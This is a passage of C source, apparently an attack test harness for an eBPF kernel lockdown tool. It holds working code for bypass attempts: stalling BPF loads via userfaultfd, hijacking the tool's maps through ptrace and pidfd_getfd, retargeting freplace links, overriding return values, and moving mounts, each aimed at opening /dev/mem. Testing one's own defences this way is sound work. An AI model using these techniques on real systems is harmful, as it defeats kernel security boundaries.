	prog = load_on_log("rt_rewrite", "vfs_read", BPF_PROG_TYPE_TRACING,
			   BPF_TRACE_FEXIT, rewrite,
			   sizeof(rewrite) / sizeof(rewrite[0]), NULL, 0, 0);
	if (prog < 0) {
		load_on_log("rt_rewrite", "vfs_read", BPF_PROG_TYPE_TRACING,
			    BPF_TRACE_FEXIT, rewrite,
			    sizeof(rewrite) / sizeof(rewrite[0]), vlog,
			    sizeof(vlog), 1);
		perror("attack: loading the fexit program on vfs_read");
		fprintf(stderr, "%.2000s\n", vlog);
		return 2;
	}
	link = bpf_link_create(prog, 0, BPF_TRACE_FEXIT, NULL);
	if (link < 0) {
		perror("attack: attaching the fexit program on vfs_read");
		return 2;
	}
	mem = open("/dev/mem", O_RDONLY);
	if (mem < 0) {
		perror("attack: /dev/mem with the bypass attached");
		return 2;
	}
	close(mem);
	printf("PREWRITTEN fmod_ret:attached fexit_vfs_read:attached dev_mem:opened\n");
	fflush(stdout);
	while (access(go, F_OK))
		usleep(100000);
	close(link);
	close(prog);
	close(bypass_link);
	close(bypass);
	return 0;
}

/* A map pinned among ours under a marker's name could pass for a
 * generation of ours. */
static int attack_plant_pin(void)
{
	int map = bpf_map_create(BPF_MAP_TYPE_ARRAY, "planted", 4, 8, 1, NULL);
	int err;

	if (map < 0)
		return report_errno("plant_pin", 1, "creating a map");
	err = bpf_obj_pin(map, PIN_DIR "/" MARKER "0000000000000000");
	close(map);
	return report_errno("plant_pin", !err, "BPF_OBJ_PIN");
}

/* Names the task as the scenario looks for it in the monitor's output. */
static void name_task(const char *comm)
{
	prctl(PR_SET_NAME, comm, 0, 0, 0);
}

/* The errno of a refusal of ours: anything else is not our hook's. */
static int refused_by_us(int ret)
{
	return ret < 0 && errno == EPERM;
}

/* BPF_LOG_STATS (include/linux/bpf_verifier.h, not UAPI): the verifier's
 * statistics alone, written at the end of verification. */
#define LOG_STATS 4

struct inflight {
	char *log; /* registered with the userfaultfd, not yet there */
	size_t size;
	int fd;
	int err;
	int done;
};

static void *inflight_load(void *arg)
{
	struct inflight *l = arg;

	l->fd = load_returning_log("rt_inflight", "security_locked_down",
				   BPF_PROG_TYPE_TRACING, BPF_MODIFY_RETURN,
				   1ULL << 32, l->log, l->size, LOG_STATS);
	l->err = errno;
	__atomic_store_n(&l->done, 1, __ATOMIC_RELEASE);
	return NULL;
}

/* Whether a program named @name is listed by ID. */
static int prog_listed(const char *name)
{
	__u32 id = 0;

	while (!bpf_prog_get_next_id(id, &id)) {
		struct bpf_prog_info info = { 0 };
		__u32 len = sizeof(info);
		int fd = bpf_prog_get_fd_by_id(id), same;

		if (fd < 0)
			continue;
		same = !bpf_obj_get_info_by_fd(fd, &info, &len) &&
		       !strcmp(info.name, name);
		close(fd);
		if (same)
			return 1;
	}
	return 0;
}

/*
 * An fmod_ret program on security_locked_down() answering 1<<32 (it lifts
 * /dev/mem, see allow_all()) whose load is in flight across the first set.
 * The verifier's log (statistics only) goes to a userfaultfd page that is
 * not there yet, so the load stops inside the kernel where the verifier
 * first writes to it: on 6.1, 6.12 and 7.2 the reset of the log to empty
 * once the main program's instructions are verified (bpf_vlog_reset() in
 * do_check_common()), just before its statistics. That is inside
 * bpf_check(): after every load-time check (security_bpf() at bpf(2)'s
 * entry, then security_bpf_prog_alloc() before 6.9,
 * security_bpf_prog_load() from 6.9 on, both before the verifier) and
 * before the program gets its ID (checked: it is not listed while held)
 * and its fd (security_bpf_prog()), so the scan of set cannot see it.
 *
 * Once @go exists the page is supplied and the load completes; then the
 * program is attached, both ways. Blocked when the load, or both
 * attaches, are refused; breached when it attaches or /dev/mem opens.
 * Exits 2 when the load could not be held. mntattack's stall does the
 * same for mount calls (a separate binary: the few lines are written
 * again here).
 */
static int stall_load(const char *go)
{
	long size = sysconf(_SC_PAGESIZE);
	struct inflight l = { .size = size, .fd = -1 };
	int uffd = syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register reg = { .mode = UFFDIO_REGISTER_MODE_MISSING };
	struct uffdio_zeropage zero = { 0 };
	struct pollfd pfd = { .fd = uffd, .events = POLLIN };
	struct uffd_msg msg;
	char detail[128];
	pthread_t t;
	int link, link_errno, raw, raw_errno, mem, mem_errno;

	name_task("rt_inflight");
	l.log = mmap(NULL, size, PROT_READ | PROT_WRITE,
		     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	reg.range.start = (unsigned long)l.log;
	reg.range.len = size;
	if (uffd < 0 || l.log == MAP_FAILED || ioctl(uffd, UFFDIO_API, &api) ||
	    ioctl(uffd, UFFDIO_REGISTER, &reg)) {
		perror("attack: setting up the userfaultfd");
		return 2;
	}
	if (pthread_create(&t, NULL, inflight_load, &l)) {
		perror("attack: starting the load");
		return 2;
	}
	/* The fault, or the load's end without one. 30 s: reading vmlinux's
	 * BTF before the load is slow under emulation. */
	for (int i = 0; i < 300 && !__atomic_load_n(&l.done, __ATOMIC_ACQUIRE);
	     i++)
		if (poll(&pfd, 1, 100) == 1)
			break;
	if (read(uffd, &msg, sizeof(msg)) != sizeof(msg) ||
	    msg.event != UFFD_EVENT_PAGEFAULT) {
		if (__atomic_load_n(&l.done, __ATOMIC_ACQUIRE))
			fprintf(stderr,
				"attack: the load was not held: it returned "
				"(%s) without writing its log\n",
				l.fd >= 0 ? "loaded" : strerror(l.err));
		else
			fprintf(stderr, "attack: the load was not held: no "
					"fault in 30 s\n");
		return 2;
	}
	if (prog_listed("rt_inflight")) {
		fprintf(stderr, "attack: the held program already has an ID: "
				"held too late\n");
		return 2;
	}
	printf("STALLED load\n");
	fflush(stdout);
	while (access(go, F_OK))
		usleep(100000);
	zero.range.start = (unsigned long)l.log;
	zero.range.len = size;
	if (ioctl(uffd, UFFDIO_ZEROPAGE, &zero) || pthread_join(t, NULL)) {
		perror("attack: releasing the load");
		return 2;
	}
	fprintf(stderr, "attack: the verifier's log: %.*s", (int)size, l.log);
	if (l.fd < 0) {
		snprintf(detail, sizeof(detail), "load:%s", strerror(l.err));
		return report("inflight_load", 0, detail);
	}
	/* Both ways to attach a tracing program: BPF_LINK_CREATE with its
	 * attach type, and BPF_RAW_TRACEPOINT_OPEN without a name. */
	link = bpf_link_create(l.fd, 0, BPF_MODIFY_RETURN, NULL);
	link_errno = errno;
	raw = bpf_raw_tracepoint_open(NULL, l.fd);
	raw_errno = errno;
	mem = open("/dev/mem", O_RDONLY);
	mem_errno = errno;
	snprintf(detail, sizeof(detail),
		 "BPF_LINK_CREATE:%s BPF_RAW_TRACEPOINT_OPEN:%s",
		 link >= 0 ? "attached" : strerror(link_errno),
		 raw >= 0 ? "attached" : strerror(raw_errno));
	if (link >= 0 || raw >= 0 || mem >= 0)
		snprintf(detail + strlen(detail),
			 sizeof(detail) - strlen(detail), " /dev/mem:%s",
			 mem >= 0 ? "opened" : strerror(mem_errno));
	return report("inflight_load", link >= 0 || raw >= 0 || mem >= 0,
		      detail);
}

/* An fd to the map of ours named @name, by ID (-1 when none answers). */
static int map_named(const char *name)
{
	__u32 id = 0;

	while (!bpf_map_get_next_id(id, &id)) {
		struct bpf_map_info info = { 0 };
		__u32 len = sizeof(info);
		int fd = bpf_map_get_fd_by_id(id);

		if (fd < 0)
			continue;
		if (!bpf_map_get_info_by_fd(fd, &info, &len) &&
		    !strcmp(info.name, name))
			return fd;
		close(fd);
	}
	return -1;
}

/* With lockdownctl (@pid) stopped at bpf(BPF_MAP_FREEZE, @attr): its
 * own fd to the map being frozen, taken with pidfd_getfd() (no new bpf
 * fd, so no bpf_map hook), when that map is the guard, armed; else -1. */
static int steal_guard(pid_t pid, int *pidfd, unsigned long attr)
{
	struct bpf_map_info info = { 0 };
	struct lockdown_guard g;
	__u32 len = sizeof(info), zero = 0;
	long word;
	int fd;

	errno = 0;
	word = ptrace(PTRACE_PEEKDATA, pid, (void *)attr, NULL);
	if (errno)
		return -1;
	if (*pidfd < 0)
		*pidfd = syscall(SYS_pidfd_open, pid, 0);
	fd = syscall(SYS_pidfd_getfd, *pidfd, (int)(__u32)word, 0);
	if (fd < 0)
		return -1;
	if (!bpf_map_get_info_by_fd(fd, &info, &len) &&
	    !strcmp(info.name, "guard") &&
	    !bpf_map_lookup_elem(fd, &zero, &g) && g.raise_prog)
		return fd;
	close(fd);
	return -1;
}

/* Root's own syscall program: state[0].enforced and both policy slots'
 * levels set to none, through @state (an fd to our state map). */
static int load_state_writer(int state)
{
	const struct bpf_insn insns[] = {
		{ .code = BPF_ST | BPF_MEM | BPF_W,
		  .dst_reg = BPF_REG_10,
		  .off = -4 },
		{ .code = BPF_ALU64 | BPF_MOV | BPF_X,
		  .dst_reg = BPF_REG_2,
		  .src_reg = BPF_REG_10 },
		{ .code = BPF_ALU64 | BPF_ADD | BPF_K,
		  .dst_reg = BPF_REG_2,
		  .imm = -4 },
		{ .code = BPF_LD | BPF_DW | BPF_IMM,
		  .dst_reg = BPF_REG_1,
		  .src_reg = BPF_PSEUDO_MAP_FD,
		  .imm = state },
		{ 0 },
		{ .code = BPF_JMP | BPF_CALL, .imm = BPF_FUNC_map_lookup_elem },
		{ .code = BPF_JMP | BPF_JEQ | BPF_K,
		  .dst_reg = BPF_REG_0,
		  .off = 3 },
		{ .code = BPF_ST | BPF_MEM | BPF_W,
		  .dst_reg = BPF_REG_0,
		  .off = offsetof(struct lockdown_state, enforced) },
		{ .code = BPF_ST | BPF_MEM | BPF_W,
		  .dst_reg = BPF_REG_0,
		  .off = offsetof(struct lockdown_state, slots[0].level) },
		{ .code = BPF_ST | BPF_MEM | BPF_W,
		  .dst_reg = BPF_REG_0,
		  .off = offsetof(struct lockdown_state, slots[1].level) },
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	LIBBPF_OPTS(bpf_prog_load_opts, opts, .prog_flags = BPF_F_SLEEPABLE);

	return bpf_prog_load(BPF_PROG_TYPE_SYSCALL, "rt_state", "GPL", insns,
			     sizeof(insns) / sizeof(insns[0]), &opts);
}

/* Loads root's state writer with @state and runs it: what became of it. */
static const char *run_state_writer(int state)
{
	LIBBPF_OPTS(bpf_test_run_opts, run);
	int prog = load_state_writer(state);

	if (prog < 0)
		return strerror(errno);
	if (bpf_prog_test_run_opts(prog, &run)) {
		close(prog);
		return "not run";
	}
	return "ran";
}

/*
 * Everything of ours is unguarded from its load until set arms the guard
 * (the bpf_map and bpf_prog hooks refuse by the guard's lists, empty
 * until then), and an fd taken meanwhile stays good. Root runs
 * `lockdownctl set LEVEL` under ptrace (it could equally race it, or stop
 * it with SIGSTOP) and, at each bpf(BPF_MAP_FREEZE) it makes:
 * - the first (the state map's, in loader_load): takes fds to our guard
 *   and state maps by ID, nothing armed yet;
 * - the one after the guard is armed (the guard's own freeze, after the
 *   second scan): @variant "guard" rewrites the guard through its fd with
 *   every hook_btf_ids cleared, just before it is frozen. "steal" does the
 *   same with lockdownctl's own fd, taken there with pidfd_getfd(): no fd
 *   is created through bpf(2), and nothing before the arming is used.
 * Once set has exited ("SET exit N" printed):
 * - "guard": an LSM program of root's on bpf_lsm_locked_down answering
 *   1 << 32 (which ends the chain before ours) is loaded and attached,
 *   then /dev/mem opened;
 * - "state": root's own syscall program, using the state map fd taken
 *   before the guard, sets the enforced level and the policy's to none;
 *   it is run, then /dev/mem opened.
 * Breached when /dev/mem opens. Exits 2 when the set could not be traced
 * or the fds not taken.
 */
static int set_traced(const char *variant, const char *level)
{
	int steal = !strcmp(variant, "steal"), pidfd = -1;
	int guard_variant = steal || !strcmp(variant, "guard"), guard = -1,
	    state = -1;
	int freezes = 0, rewritten = 0, status, prog, link = -1, mem, err;
	const char *writer;
	char detail[192];
	pid_t pid;

	if (!guard_variant && strcmp(variant, "state")) {
		fprintf(stderr,
			"attack: --set-traced guard|steal|state LEVEL\n");
		return 2;
	}
	name_task("rt_set_traced");
	pid = fork();
	if (pid < 0)
		return 2;
	if (!pid) {
		ptrace(PTRACE_TRACEME, 0, NULL, NULL);
		raise(SIGSTOP);
		execlp("lockdownctl", "lockdownctl", "set", level,
		       (char *)NULL);
		_exit(127);
	}
	if (waitpid(pid, &status, 0) != pid || !WIFSTOPPED(status)) {
		perror("attack: starting lockdownctl under ptrace");
		return 2;
	}
	ptrace(PTRACE_SETOPTIONS, pid, NULL,
	       (void *)(long)(PTRACE_O_TRACESYSGOOD | PTRACE_O_EXITKILL));
	ptrace(PTRACE_SYSCALL, pid, NULL, NULL);
	while (waitpid(pid, &status, 0) == pid && WIFSTOPPED(status)) {
		struct user_regs_struct regs;
		int sig = WSTOPSIG(status);

		if (sig == (SIGTRAP | 0x80)) {
			sig = 0;
			/* At the entry of bpf(BPF_MAP_FREEZE, ...). */
			if (!ptrace(PTRACE_GETREGS, pid, NULL, &regs) &&
			    regs.orig_rax == __NR_bpf &&
			    (long)regs.rax == -ENOSYS &&
			    regs.rdi == BPF_MAP_FREEZE) {
				struct lockdown_guard g;
				__u32 zero = 0;

				freezes++;
				if (steal && guard < 0)
					guard = steal_guard(pid, &pidfd,
							    regs.rsi);
				if (!steal && guard < 0)
					guard = map_named("guard");
				if (!steal && state < 0)
					state = map_named("state");
				if (guard_variant && guard >= 0 && !rewritten &&
				    !bpf_map_lookup_elem(guard, &zero, &g) &&
				    g.raise_prog) {
					memset(g.hook_btf_ids, 0,
					       sizeof(g.hook_btf_ids));
					rewritten = !bpf_map_update_elem(
						guard, &zero, &g, BPF_ANY);
					if (!rewritten)
						perror("attack: rewriting the guard");
				}
			}
		} else if (sig == SIGTRAP) {
			sig = 0; /* the exec */
		}
		ptrace(PTRACE_SYSCALL, pid, NULL, (void *)(long)sig);
	}
	printf("SET exit %d freezes %d guard_fd:%s state_fd:%s rewritten:%s\n",
	       WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status),
	       freezes, guard >= 0 ? "taken" : "none",
	       state >= 0 ? "taken" : "none", rewritten ? "yes" : "no");
	fflush(stdout);
	if (guard_variant && !rewritten) {
		fprintf(stderr, "attack: the guard was not rewritten\n");
		return 2;
	}
	if (!guard_variant && state < 0) {
		fprintf(stderr, "attack: no fd to the state map\n");
		return 2;
	}
	if (guard_variant) {
		prog = load_returning("bpf_lsm_locked_down", BPF_PROG_TYPE_LSM,
				      BPF_LSM_MAC, 1ULL << 32);
		err = errno;
		if (prog >= 0) {
			link = bpf_link_create(prog, 0, BPF_LSM_MAC, NULL);
			err = errno;
		}
		mem = open("/dev/mem", O_RDONLY);
		snprintf(detail, sizeof(detail),
			 "lsm_on_locked_down:%s attach:%s /dev/mem:%s",
			 prog >= 0 ? "loaded" : strerror(err),
			 link >= 0   ? "ok"
			 : prog >= 0 ? strerror(err)
				     : "no",
			 mem >= 0 ? "opened" : strerror(errno));
		printf("HELD link\n");
		fflush(stdout);
		report("guard_rewrite", mem >= 0, detail);
		/* The link stays for the scenario's own checks. */
		pause();
		return 0;
	}
	writer = run_state_writer(state);
	mem = open("/dev/mem", O_RDONLY);
	snprintf(detail, sizeof(detail), "state_writer:%s /dev/mem:%s", writer,
		 mem >= 0 ? "opened" : strerror(errno));
	return report("state_write", mem >= 0, detail);
}

/* What set_raced has seen and taken so far; "public": fds to what lockdown
 * hands out anyway (the ring buffer, read-only counters) or is not
 * lockdown's (libbpf's probes), not counted as taken. */
struct raced {
	int seen, opened, stolen, public, state, guard, nstolen;
	__u32 last, stolen_ids[64];
	char names[512];
};

/* Keeps @fd as raced's state or guard fd when its map is named so and
 * none is kept yet (closes it otherwise); notes its name. */
static void raced_keep(struct raced *r, int fd, const char *how)
{
	struct bpf_map_info info = { 0 };
	__u32 len = sizeof(info);
	size_t n = strlen(r->names);

	if (bpf_map_get_info_by_fd(fd, &info, &len)) {
		close(fd);
		return;
	}
	if (n + strlen(how) + strlen(info.name) + 3 < sizeof(r->names))
		snprintf(r->names + n, sizeof(r->names) - n, "%s%s:%s",
			 n ? "," : "", how, info.name);
	if (r->state < 0 && !strcmp(info.name, "state"))
		r->state = fd;
	else if (r->guard < 0 && !strcmp(info.name, "guard"))
		r->guard = fd;
	else
		close(fd);
}

/* Whether @fd reaches what lockdown never hands out: a map the guard hides
 * (src/guarded.c), or a read-only one with write access. */
static int withheld(int fd)
{
	static const char *const hidden[] = {
		"state",	"guard",	   "bursts",
		"scope_levels", "scope_list",	   "task_scopes",
		"policy_args",	"lockdown.rodata", "lockdown.bss",
	};
	struct bpf_map_info info = { 0 };
	__u32 len = sizeof(info);

	if (bpf_map_get_info_by_fd(fd, &info, &len))
		return 1; /* unknown: the worst */
	for (size_t i = 0; i < sizeof(hidden) / sizeof(hidden[0]); i++) {
		if (!strcmp(info.name, hidden[i]))
			return 1;
	}
	return (!strcmp(info.name, "counters") ||
		!strcmp(info.name, "event_stats")) &&
	       (fcntl(fd, F_GETFL) & O_ACCMODE) != O_RDONLY;
}

/* Each map ID above the last one seen: counted, then opened read-write. */
static void raced_by_id(struct raced *r)
{
	__u32 id = r->last;

	while (!bpf_map_get_next_id(id, &id)) {
		int fd = bpf_map_get_fd_by_id(id);

		r->last = id;
		r->seen++;
		if (fd < 0)
			continue;
		if (!withheld(fd)) {
			r->public ++;
			close(fd);
			continue;
		}
		r->opened++;
		raced_keep(r, fd, "id");
	}
}

/* Each bpf-map fd of set's (through @pidfd), once per map. */
static void raced_steal(struct raced *r, int pidfd)
{
	for (int n = 3; n < 64; n++) {
		struct bpf_map_info info = { 0 };
		__u32 len = sizeof(info);
		char path[32], target[64];
		ssize_t tl;
		int fd = syscall(SYS_pidfd_getfd, pidfd, n, 0), known = 0;

		if (fd < 0)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		tl = readlink(path, target, sizeof(target) - 1);
		if (tl < 0 ||
		    (target[tl] = 0, strcmp(target, "anon_inode:bpf-map")) ||
		    bpf_map_get_info_by_fd(fd, &info, &len)) {
			close(fd);
			continue;
		}
		for (int i = 0; i < r->nstolen; i++)
			known |= r->stolen_ids[i] == info.id;
		if (known) {
			close(fd);
			continue;
		}
		if (r->nstolen < 64)
			r->stolen_ids[r->nstolen++] = info.id;
		if (!withheld(fd)) {
			r->public ++;
			close(fd);
			continue;
		}
		r->stolen++;
		raced_keep(r, fd, "fd");
	}
}

/*
 * The same window as --set-traced, without ptrace: root runs `lockdownctl
 * set LEVEL` as its child and, while it runs (its load takes a second or
 * two), walks the map IDs above the highest one there was before, opening
 * each read-write by ID, and takes set's own bpf-map fds 3..63 with
 * pidfd_getfd() (no tracing, no new fd through bpf(2)). Counted once per
 * map: "seen" (new IDs), "opened" (by ID), "stolen" (set's fds), both
 * only of what lockdown never hands out (withheld(); the rest "public");
 * the first fds to maps named "state" and "guard" are kept. Once set has
 * exited ("SET exit N seen:S opened:O stolen:T state_fd:... guard_fd:..."
 * printed), root's own syscall program sets the level to none through the
 * state fd, when one was kept, and /dev/mem is opened. Breached when any
 * map was opened or stolen, or /dev/mem opens. Exits 2 when no new map
 * was seen (the race never ran against set's maps).
 */
static int set_raced(const char *level)
{
	struct raced r = { .state = -1, .guard = -1 };
	int status = 0, pidfd, mem;
	const char *writer;
	char detail[768];
	pid_t pid;

	name_task("rt_set_raced");
	while (!bpf_map_get_next_id(r.last, &r.last))
		;
	fflush(stdout);
	pid = fork();
	if (pid < 0)
		return 2;
	if (!pid) {
		execlp("lockdownctl", "lockdownctl", "set", level,
		       (char *)NULL);
		_exit(127);
	}
	pidfd = syscall(SYS_pidfd_open, pid, 0);
	if (pidfd < 0)
		perror("attack: pidfd_open");
	while (waitpid(pid, &status, WNOHANG) == 0) {
		raced_by_id(&r);
		if (pidfd >= 0)
			raced_steal(&r, pidfd);
	}
	printf("SET exit %d seen:%d opened:%d stolen:%d public:%d state_fd:%s guard_fd:%s\n",
	       WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status),
	       r.seen, r.opened, r.stolen, r.public,
	       r.state >= 0 ? "taken" : "none",
	       r.guard >= 0 ? "taken" : "none");
	fflush(stdout);
	if (!r.seen) {
		fprintf(stderr,
			"attack: no map of set's was seen: the race did not run\n");
		return 2;
	}
	writer = r.state >= 0 ? run_state_writer(r.state) : "no fd";
	mem = open("/dev/mem", O_RDONLY);
	snprintf(detail, sizeof(detail),
		 "opened:%d stolen:%d taken:%s state_writer:%s /dev/mem:%s",
		 r.opened, r.stolen, r.names[0] ? r.names : "-", writer,
		 mem >= 0 ? "opened" : strerror(errno));
	return report("set_raced", r.opened || r.stolen || mem >= 0, detail);
}

/* What prog_raise_level (@fd) answers for LOCKDOWN_LEVEL_NONE: the level
 * lockdownctl reads. */
static void raise_run_level(int fd, __u32 *now)
{
	__u32 args = LOCKDOWN_LEVEL_NONE;
	LIBBPF_OPTS(bpf_test_run_opts, opts, .ctx_in = &args,
		    .ctx_size_in = sizeof(args));

	if (!bpf_prog_test_run_opts(fd, &opts))
		*now = opts.retval;
}

/*
 * An extension program (freplace) is checked against its target at load
 * only (check_load: dst_prog), but BPF_LINK_CREATE may give it another
 * target (target_fd, target_btf_id), checked by the kernel's type rules
 * alone. Root loads a decoy syscall program of its own shaped like
 * prog_raise_level (int f(struct lockdown_raise_args *), whose fd is
 * handed out by design), an extension of the decoy answering
 * LOCKDOWN_LEVEL_CONFIDENTIALITY, and attaches the extension to our
 * raise_level: every run of it, lockdownctl's reads of the level and its
 * raises included, then runs root's code. The link is pinned at @pin.
 * Breached when it attaches; the detail says what a run of our
 * prog_raise_level answers for LOCKDOWN_LEVEL_NONE afterwards.
 */
static int freplace_retarget(const char *pin)
{
	const struct bpf_insn answer[] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K,
		  .dst_reg = BPF_REG_0,
		  .imm = LOCKDOWN_LEVEL_CONFIDENTIALITY },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	struct bpf_func_info fi = { 0 };
	struct btf *btf = btf__new_empty(), *ours = NULL;
	int u32, st, ptr, proto, func, decoy = -1, ext = -1, link = -1;
	int target = bpf_obj_get(RAISE_PIN), target_id = -1, err = 0;
	struct bpf_prog_info info = { 0 };
	__u32 len = sizeof(info), now = 0;
	static char vlog[4096];
	char detail[192];

	if (target < 0 || !btf) {
		perror("attack: prog_raise_level's pin");
		return 2;
	}
	if (!bpf_prog_get_info_by_fd(target, &info, &len) && info.btf_id)
		ours = btf__load_from_kernel_by_id(info.btf_id);
	if (ours)
		target_id = btf__find_by_name_kind(ours, "raise_level",
						   BTF_KIND_FUNC);
	btf__free(ours);
	u32 = btf__add_int(btf, "unsigned int", 4, 0);
	st = btf__add_struct(btf, "lockdown_raise_args", 4);
	btf__add_field(btf, "level", u32, 0, 0);
	ptr = btf__add_ptr(btf, st);
	proto = btf__add_func_proto(
		btf, btf__add_int(btf, "int", 4, BTF_INT_SIGNED));
	btf__add_func_param(btf, "args", ptr);
	func = btf__add_func(btf, "rt_decoy", BTF_FUNC_GLOBAL, proto);
	/* From 6.8 a main program whose argument is not the context is
	 * "unreliable" and cannot be replaced: say it is (ignored before). */
	btf__add_decl_tag(btf, "arg:ctx", func, 0);
	if (target_id < 0 || func < 0 || btf__load_into_kernel(btf)) {
		fprintf(stderr, "attack: BTF for the decoy (target %d)\n",
			target_id);
		return 2;
	}
	fi.type_id = func;
	LIBBPF_OPTS(bpf_prog_load_opts, dopts, .prog_btf_fd = btf__fd(btf),
		    .func_info = &fi, .func_info_cnt = 1,
		    .func_info_rec_size = sizeof(fi),
		    .prog_flags = BPF_F_SLEEPABLE);
	decoy = bpf_prog_load(BPF_PROG_TYPE_SYSCALL, "rt_decoy", "GPL",
			      return_zero, 2, &dopts);
	if (decoy < 0) {
		perror("attack: loading the decoy");
		return 2;
	}
	LIBBPF_OPTS(bpf_prog_load_opts, eopts, .prog_btf_fd = btf__fd(btf),
		    .func_info = &fi, .func_info_cnt = 1,
		    .func_info_rec_size = sizeof(fi), .attach_prog_fd = decoy,
		    .attach_btf_id = func, .log_buf = vlog,
		    .log_size = sizeof(vlog), .log_level = 1);
	ext = bpf_prog_load(BPF_PROG_TYPE_EXT, "rt_freplace", "GPL", answer, 2,
			    &eopts);
	if (ext < 0 && errno == EINVAL &&
	    strstr(vlog, "Cannot replace static functions"))
		/* Before 6.8 the kernel takes the main function of every
		 * syscall program for "unreliable" (its argument is no
		 * context type), ours as much as the decoy. */
		return report("freplace_retarget", 0,
			      "the kernel replaces no syscall program's main "
			      "function (Cannot replace static functions)");
	if (ext < 0) {
		perror("attack: loading the extension of the decoy");
		fprintf(stderr, "attack: the verifier's log: %s\n", vlog);
		return 2;
	}
	LIBBPF_OPTS(bpf_link_create_opts, lopts, .target_btf_id = target_id);
	link = bpf_link_create(ext, target, 0, &lopts);
	err = errno;
	if (link < 0) {
		/* The kernel's reason, from the same check at load. */
		LIBBPF_OPTS(bpf_prog_load_opts, topts,
			    .prog_btf_fd = btf__fd(btf), .func_info = &fi,
			    .func_info_cnt = 1,
			    .func_info_rec_size = sizeof(fi),
			    .attach_prog_fd = target,
			    .attach_btf_id = target_id, .log_buf = vlog,
			    .log_size = sizeof(vlog), .log_level = 1);
		vlog[0] = 0;
		int t = bpf_prog_load(BPF_PROG_TYPE_EXT, "rt_freplace", "GPL",
				      answer, 2, &topts);
		fprintf(stderr,
			"attack: the same extension loaded on raise_level: %s; log: %s\n",
			t >= 0 ? "loaded" : strerror(errno), vlog);
		if (t >= 0)
			close(t);
	}
	if (link >= 0 && pin)
		bpf_obj_pin(link, pin);
	raise_run_level(target, &now);
	snprintf(
		detail, sizeof(detail),
		"BPF_LINK_CREATE(ext of decoy, target raise_level):%s raise_level(none) answers %u",
		link >= 0 ? "attached" : strerror(err), now);
	return report("freplace_retarget", link >= 0, detail);
}

/*
 * bpf_override_return() from a kprobe (here kprobe.multi) on
 * security_locked_down answering 0 would skip every LSM. It needs
 * CONFIG_BPF_KPROBE_OVERRIDE (else the verifier knows no such helper) and
 * a target on the error-injection list. Breached when it attaches and
 * /dev/mem opens.
 */
static int attack_override_return(void)
{
	const struct bpf_insn insns[] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_2 },
		{ .code = BPF_JMP | BPF_CALL, .imm = BPF_FUNC_override_return },
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	static char vlog[4096];
	const char *sym = "security_locked_down";
	char detail[192];
	int prog, link = -1, mem, err;
	LIBBPF_OPTS(bpf_prog_load_opts, opts,
		    .expected_attach_type = BPF_TRACE_KPROBE_MULTI,
		    .log_buf = vlog, .log_size = sizeof(vlog), .log_level = 1);
	LIBBPF_OPTS(bpf_link_create_opts, lopts, .kprobe_multi.syms = &sym,
		    .kprobe_multi.cnt = 1);

	prog = bpf_prog_load(BPF_PROG_TYPE_KPROBE, "rt_override", "GPL", insns,
			     4, &opts);
	err = errno;
	if (prog >= 0) {
		link = bpf_link_create(prog, 0, BPF_TRACE_KPROBE_MULTI, &lopts);
		err = errno;
	}
	mem = open("/dev/mem", O_RDONLY);
	snprintf(detail, sizeof(detail), "load:%s%s attach:%s /dev/mem:%s",
		 prog >= 0 ? "ok" : strerror(err),
		 prog < 0 && strstr(vlog, "unknown func") ? " (no such helper)"
							  : "",
		 link >= 0   ? "ok"
		 : prog >= 0 ? strerror(err)
			     : "no",
		 mem >= 0 ? "opened" : strerror(errno));
	if (mem >= 0)
		close(mem);
	if (link >= 0)
		close(link);
	if (prog >= 0)
		close(prog);
	return report("override_return", mem >= 0, detail);
}

/*
 * move_mount(2), the new mount API, moving the mount at @src (our bpffs,
 * or /sys above it) onto a tmpfs of root's own, which root could then drop
 * lazily with everything below it. open_tree() without OPEN_TREE_CLONE
 * names the mount itself, so this is a move, not a copy. The source is
 * what the move_mount hook checks. Breached when the move succeeds (then
 * moved back, so the rest of the run still means something) or fails
 * otherwise than with our EPERM.
 */
static int move_tree(const char *name, const char *src)
{
	const char *to = "/tmp/rt_mm/t";
	int tree, ret, err;
	char detail[128];

	mkdir("/tmp/rt_mm", 0700);
	if (mount("rt_mm", "/tmp/rt_mm", "tmpfs", 0, NULL) ||
	    mount(NULL, "/tmp/rt_mm", NULL, MS_PRIVATE, NULL) ||
	    mkdir(to, 0700))
		return report_errno(name, 1, "setting up the target");
	tree = open_tree(AT_FDCWD, src, 0);
	if (tree < 0)
		return report_errno(name, 1, "open_tree");
	ret = move_mount(tree, "", AT_FDCWD, to, MOVE_MOUNT_F_EMPTY_PATH);
	err = errno;
	if (!ret)
		move_mount(tree, "", AT_FDCWD, src, MOVE_MOUNT_F_EMPTY_PATH);
	close(tree);
	umount2("/tmp/rt_mm", MNT_DETACH);
	rmdir("/tmp/rt_mm");
	snprintf(detail, sizeof(detail), "open_tree(%s):ok move_mount:%s", src,
		 ret ? strerror(err) : "moved");
	errno = err;
	return report(name, !refused_by_us(ret), detail);
}

static int attack_move_mount_bpffs(void)
{
	name_task("rt_mm_bpffs");
	return move_tree("move_mount_bpffs", "/sys/fs/bpf");
}

static int attack_move_mount_sys(void)
{
	name_task("rt_mm_sys");
	return move_tree("move_mount_sys", "/sys");
}

/* A tmpfs made with fsopen()/fsmount(), attached over the pin directory
 * with move_mount(): the destination's check. */
static int attack_move_mount_over(void)
{
	int fs, mnt = -1, ret = -1, err = 0;
	char detail[128];

	name_task("rt_mm_over");
	fs = fsopen("tmpfs", FSOPEN_CLOEXEC);
	if (fs < 0 || fsconfig(fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0))
		return report_errno("move_mount_over", 1, "fsopen");
	mnt = fsmount(fs, FSMOUNT_CLOEXEC, 0);
	close(fs);
	if (mnt < 0)
